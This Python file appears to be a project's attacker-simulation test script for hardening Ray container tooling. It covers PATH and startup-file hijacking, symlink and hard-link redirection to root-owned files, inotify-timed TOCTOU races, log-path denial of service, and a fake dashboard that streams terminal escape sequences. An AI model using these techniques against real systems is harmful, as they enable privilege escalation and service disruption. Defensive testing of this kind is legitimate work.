# Copyright (c) 2026 The ray.containers authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What somebody does who has the Ray user's rights: `attack.py NAME` on a node, once or until it is killed.

`attack.py undo` takes away what lies in the way afterwards, so that the next attack begins with a cluster that works.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import pathlib
import shutil
import signal
import socket
import stat
import struct
import sys
import threading
import time

HOME, TEMP = pathlib.Path.home(), pathlib.Path("/tmp/ray")
ASIDE, AWAY = HOME / "aside", ".away"
LOGS, PLANTED = TEMP / "session_latest" / "logs", "planted"
CONTAINERS = HOME / ".config" / "containers"

#: Of root's: a secret, a file that everybody may read, and directories in which a file is obeyed.
SECRET, OPEN, OBEYED = "/root/planted", "/etc/planted", ("/etc", "/etc/tmpfiles.d", "/etc/ld.so.conf.d", "/var/lib")

#: What is replaced by links.
REPLACED = (
    *(HOME / name for name in (".config", ".cache", ".ray")),
    *(CONTAINERS / name for name in ("containers.conf.d", "registries.conf.d", "storage.conf", "auth.json")),
    HOME / ".ray" / "auth_token",
)

#: Programs that root is to take for the system's own.
PROGRAMS = ("podman", "ray", "python3", "nft", "systemctl", "sh", "mount", "crun", "newuidmap", "conmon", "uv")
WITNESS = "#!/bin/sh\n: > /dev/shm/witness-$(id -u)-$$\n"
WITNESS_IN_PYTHON = "import os\nopen(f'/dev/shm/witness-{os.geteuid()}-{os.getpid()}', 'w').close()\n"


def put_aside(path: pathlib.Path) -> None:
    """Move what stands there out of the way, for `undo`."""
    ASIDE.mkdir(exist_ok=True)
    with contextlib.suppress(FileNotFoundError):
        os.rename(path, ASIDE / str(path.relative_to(HOME)).replace("/", "+"))


def replace(path: pathlib.Path, target: str) -> None:
    """Have a link stand there."""
    path.parent.mkdir(parents=True, exist_ok=True)
    put_aside(path)
    path.symlink_to(target)


def undo() -> None:
    for path in REPLACED:
        if path.is_symlink():
            path.unlink()
    for path in sorted(ASIDE.glob("*")) if ASIDE.is_dir() else ():
        place = HOME / path.name.replace("+", "/")
        take_away(place)
        place.parent.mkdir(parents=True, exist_ok=True)
        os.rename(path, place)
    for path in (HOME / ".config", HOME / ".ray", CONTAINERS, TEMP / "session_latest"):
        away = path.with_name(path.name + AWAY)
        if away.is_symlink() or away.exists():
            take_away(path)
            os.rename(away, path)
    for path in LOGS.glob(f"*-{PLANTED}*"):
        take_away(path)
    if (LOGS / "dashboard_ServeHead.err").is_symlink():
        take_away(LOGS / "dashboard_ServeHead.err")


def take_away(path: pathlib.Path) -> None:
    with contextlib.suppress(FileNotFoundError):
        shutil.rmtree(path) if stat.S_ISDIR(path.lstat().st_mode) else path.unlink()


def programs() -> None:
    """Programs and start-up files wherever somebody who is careless would run them."""
    for directory in (HOME / "bin", HOME / ".local" / "bin", TEMP / "bin", TEMP):
        directory.mkdir(parents=True, exist_ok=True)
        for name in PROGRAMS:
            (directory / name).write_text(WITNESS)
            (directory / name).chmod(0o755)
    for name in (".profile", ".bashrc", ".bash_login", ".bash_logout", ".pam_environment", ".ssh/rc"):
        (HOME / name).parent.mkdir(exist_ok=True)
        (HOME / name).write_text(WITNESS)
    packages = HOME / ".local" / "lib" / f"python3.{sys.version_info.minor}" / "site-packages"
    packages.mkdir(parents=True, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py"):
        (packages / name).write_text(WITNESS_IN_PYTHON)
        (HOME / name).write_text(WITNESS_IN_PYTHON)
    # That a witness is one is seen when its own account runs it.
    os.spawnl(os.P_WAIT, str(HOME / "bin" / "podman"), "podman")


def links() -> None:
    """What the site writes leads to root's directories, and what it reads to root's secret."""
    replace(HOME / ".ray", OBEYED[0])
    for name, target in (
        ("containers.conf.d", OBEYED[1]),
        ("registries.conf.d", OBEYED[2]),
        ("storage.conf", OPEN),
        ("auth.json", SECRET),
    ):
        replace(CONTAINERS / name, target)
    with contextlib.suppress(OSError):
        os.link(OPEN, HOME / "hard")


def token() -> None:
    """The token is root's secret; the next attack listens for it."""
    replace(HOME / ".ray" / "auth_token", SECRET)


def config() -> None:
    """Whole directories are root's: those whose content a switch to containers removes."""
    replace(HOME / ".config", OBEYED[3])
    replace(HOME / ".cache", OBEYED[3])


def logs() -> None:
    """Logs that have no end, never begin, or are none: of those that a diagnosis reads, and Ray's own log monitor does not."""
    for number, make in enumerate(
        (
            os.mkfifo,
            lambda path: os.symlink("/dev/zero", path),
            lambda path: os.symlink(SECRET, path),
            os.mkdir,
            lambda path: socket.socket(socket.AF_UNIX).bind(str(path)),
            lambda path: os.symlink(path, path),
            lambda path: os.truncate(os.open(path, os.O_WRONLY | os.O_CREAT), 10 * 2**30),
        )
    ):
        for name in ("runtime_env_setup", "runtime_env_agent"):
            path = LOGS / f"{name}-{PLANTED}{number}.log"
            take_away(path)
            make(path)
    take_away(LOGS / "dashboard_ServeHead.err")
    os.symlink("/dev/zero", LOGS / "dashboard_ServeHead.err")


def listen() -> None:
    """In the place of the dashboard, an answer without an end; what is asked is written down."""
    servers = []
    for port in (8265, 6384):
        for _try in range(2000):
            _kill(("dashboard", "ray-dashboard", "DashboardAgent", "agent.py"))
            server = socket.socket()
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            with contextlib.suppress(OSError):
                server.bind(("0.0.0.0", port))
                server.listen(64)
                servers.append(server)
                break
            server.close()
            time.sleep(0.05)
    (TEMP / "listening").write_text(str(len(servers)))
    for server in servers:
        threading.Thread(target=_answer_without_end, args=(server,)).start()


def _kill(words: tuple[str, ...]) -> None:
    for process in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            title = pathlib.Path(f"/proc/{process}/cmdline").read_text(errors="replace")
            if any(word in title for word in words) and "attack.py" not in title:
                os.kill(int(process), signal.SIGKILL)


def _answer_without_end(server: socket.socket) -> None:
    while True:
        connection, _address = server.accept()
        threading.Thread(target=_talk, args=(connection,), daemon=True).start()


def _talk(connection: socket.socket) -> None:
    with contextlib.suppress(OSError), connection:
        asked = connection.recv(1 << 16)
        with (TEMP / "heard").open("ab") as heard:
            heard.write(asked)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n[")
        while True:
            connection.sendall(b'"\\u001b]52;c;eA==\\u0007",' * 64)
            time.sleep(0.01)


def busy() -> None:
    """Whatever appears is replaced by a link in the same moment, and directories come and go in the middle of paths."""
    for directory in (HOME / ".ray", CONTAINERS, HOME / ".config", HOME, TEMP, pathlib.Path("/tmp")):
        directory.mkdir(parents=True, exist_ok=True)
        threading.Thread(target=_swap_what_appears, args=(directory,)).start()
    for path, target in ((HOME / ".ray", "/etc"), (CONTAINERS, "/etc"), (HOME / ".config", "/var/lib")):
        threading.Thread(target=_come_and_go, args=(path, target)).start()
    _come_and_go(TEMP / "session_latest", "/etc")


def _come_and_go(path: pathlib.Path, target: str) -> None:
    aside = path.with_name(path.name + AWAY)
    while True:
        with contextlib.suppress(OSError):
            os.rename(path, aside)
            os.symlink(target, path)
            time.sleep(0.002)
        with contextlib.suppress(OSError):
            os.unlink(path)
        with contextlib.suppress(OSError):
            os.rename(aside, path)
        time.sleep(0.02)


def _swap_what_appears(directory: pathlib.Path) -> None:
    """By inotify: names of the standing ones are left to `_come_and_go`."""
    libc = ctypes.CDLL(None)
    watch = libc.inotify_init()
    libc.inotify_add_watch(watch, os.fsencode(directory), 0x100 | 0x80)  # IN_CREATE, IN_MOVED_TO
    while True:
        events, at = os.read(watch, 1 << 16), 0
        while at < len(events):
            _watch, _mask, _cookie, length = struct.unpack_from("iIII", events, at)
            name = events[at + 16 : at + 16 + length].rstrip(b"\0").decode()
            at += 16 + length
            # The temporary file of a write, before it is renamed.
            if name.startswith(".") and name.count(".") > 1 and not name.endswith(AWAY):
                with contextlib.suppress(OSError):
                    os.rename(directory / name, directory / "taken")
                    os.symlink(SECRET, directory / name)


ATTACKS = {attack.__name__: attack for attack in (programs, links, token, config, logs, listen, busy, undo)}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]]()
